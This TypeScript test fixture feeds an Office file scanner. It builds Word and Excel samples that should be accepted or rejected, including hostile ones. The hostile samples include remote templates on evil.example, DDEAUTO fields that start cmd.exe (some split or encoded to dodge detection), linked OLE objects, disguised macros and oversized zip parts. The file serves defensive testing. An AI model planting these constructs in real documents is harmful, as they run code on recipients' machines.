import { docxParts, xlsxParts, zip } from "./sample-files.ts";

/** Word and Excel documents that a reader would let act, and harmless ones that resemble them. */

const ascii = (text: string): Buffer => Buffer.from(text, "latin1");
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/** A document with more parts, or other relationships of its main part. */
const withParts = (...parts: readonly (readonly [string, string | Buffer])[]): Buffer =>
  zip([...docxParts, ...parts.map(([name, content]) => ({ name, content: Buffer.from(content) }))]);
const relations = (...texts: readonly string[]): string =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="x">${texts.join("")}</Relationships>`;
const withRelation = (text: string): Buffer => withParts(["word/_rels/document.xml.rels", relations(text)]);
const relation = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationship Id="rId1" Type="${REL}/${type}" Target="${target}"${mode}/>`;
const withField = (body: string): Buffer => withParts(["word/header1.xml", `<w:hdr xmlns:w="x">${body}</w:hdr>`]);
const field = (...runs: readonly string[]): string =>
  `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join("")}<w:fldChar w:fldCharType="separate"/>`;
const workbook = (...parts: readonly (readonly [string, string])[]): Buffer =>
  zip([...xlsxParts, ...parts.map(([name, content]) => ({ name, content: Buffer.from(content) }))]);

export const acceptedDocuments: readonly (readonly [string, Buffer])[] = [
  ["a link to a page", withRelation(relation("hyperlink", "https://example.com/?a=1&amp;b=2"))],
  ["a link with a character that ends tags", withRelation(relation("hyperlink", "https://example.com/a>b"))],
  ["the template it was made from", withRelation(relation("attachedTemplate", "file:///C:\\Templates\\letter.dotx"))],
  [
    "relationships within it, with a prefix",
    withParts([
      "_rels/.rels",
      relations(relation("styles", "styles.xml", "")).replaceAll("Relationship", "r:Relationship"),
    ]),
  ],
  ["relationships of one tag", withParts(["word/_rels/footer1.xml.rels", '<Relationships xmlns="x"/>'])],
  [
    "fields of Word",
    withField(`${field(" PAGE ")}${field(' HYPERLINK "https://example.com/dde" ')}<w:fldSimple w:instr=" DATE "/>`),
  ],
  ["text about DDE", withField("<w:t>DDEAUTO cmd.exe</w:t>")],
  ["a field whose name only begins so", withField(field(" DDEX "))],
];
export const acceptedWorkbooks: readonly (readonly [string, Buffer])[] = [
  ["settings of a printer", workbook(["xl/printerSettings/printerSettings1.bin", "\0"])],
  [
    "a link to another workbook",
    workbook(
      ["xl/externalLinks/_rels/externalLink1.xml.rels", relations(relation("externalLinkPath", "prices.xlsx"))],
      ["xl/externalLinks/externalLink1.xml", "<externalLink><externalBook/></externalLink>"],
    ),
  ],
];

export const rejectedDocuments: readonly (readonly [string, Buffer, RegExp])[] = [
  ["a template on a server", withRelation(relation("attachedTemplate", "https://evil.example/t.dotm")), /elsewhere/],
  ["a template on a file server", withRelation(relation("attachedTemplate", "file:////evil/t.dotm")), /elsewhere/],
  [
    "a template behind an attribute with a bracket",
    withRelation(`<Relationship Id="a>b" Type="${REL}/attachedTemplate" Target="//x" TargetMode='External'/>`),
    /elsewhere/,
  ],
  [
    "an attribute in unusual writing",
    withRelation(`<Relationship Type\n\n=\n\n"${REL}/oleObject" Target="x"/>`),
    /markup/,
  ],
  [
    "a type with a reference to a character",
    withRelation(`<Relationship Type="${REL}/oleOb&#106;ect" Target="x"/>`),
    /markup/,
  ],
  [
    "an entity",
    withParts([
      "word/_rels/a.rels",
      `<!DOCTYPE a [<!ENTITY e "External">]>${relations(relation("image", "x", ' TargetMode="&e;"'))}`,
    ]),
    /markup/,
  ],
  [
    "UTF-16",
    withParts(["word/_rels/a.rels", Buffer.from(relations(relation("image", "https://x")), "utf16le")]),
    /markup/,
  ],
  ["a linked picture", withRelation(relation("image", "https://evil.example/pixel.png")), /elsewhere/],
  ["a linked object", withRelation(relation("oleObject", "https://evil.example/a.rtf")), /embedded/],
  ["a frame", withRelation(relation("frame", "https://evil.example/")), /elsewhere/],
  ["another document inserted", withRelation(relation("subDocument", "//evil/a.docx")), /elsewhere/],
  ["a page inserted", withRelation(relation("aFChunk", "chunk.dat", "")), /embedded/],
  ["macros under another name", withRelation(relation("vbaProject", "harmless.dat", "")), /embedded/],
  [
    "the content type of macros",
    zip([
      {
        name: "[Content_Types].xml",
        content: ascii(
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        ),
      },
      { name: "word/document.xml", content: ascii("<w:document/>") },
    ]),
    /macros/,
  ],
  ["a field that starts a program", withField(field(' DDEAUTO c:\\windows\\cmd.exe "/k calc" ')), /programs/],
  ["the same in several runs", withField(field("D", "DE", "AUTO cmd")), /programs/],
  ["the same as an attribute", withField('<w:fldSimple w:instr="DDE cmd x"/>'), /programs/],
  ["the same in references", withField(field("&#x44;D&#69; cmd")), /programs/],
  ["the same in a CDATA section", withField(field("<![CDATA[DDE cmd]]>")), /markup/],
  [
    "a part that is larger than its directory says",
    zip([...docxParts, { name: "word/_rels/a.rels", content: Buffer.alloc(100_000, " "), inflatedBytes: 10 }]),
    /damaged/,
  ],
  [
    "parts too large to read",
    zip([...docxParts, { name: "word/a.xml", content: Buffer.alloc(1_000_000, " "), inflatedBytes: 100_000_000 }]),
    /too large/,
  ],
];

export const rejectedWorkbooks: readonly (readonly [string, Buffer, RegExp])[] = [
  [
    "a cell that starts a program",
    workbook(["xl/externalLinks/externalLink1.xml", "<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>"]),
    /elsewhere/,
  ],
  [
    "a cell that shows an object",
    workbook(["xl/externalLinks/externalLink1.xml", "<externalLink><oleLink/></externalLink>"]),
    /elsewhere/,
  ],
  [
    "old macros",
    workbook(["xl/_rels/workbook.xml.rels", relations(relation("xlMacrosheet", "sheet.xml", ""))]),
    /macros/,
  ],
];
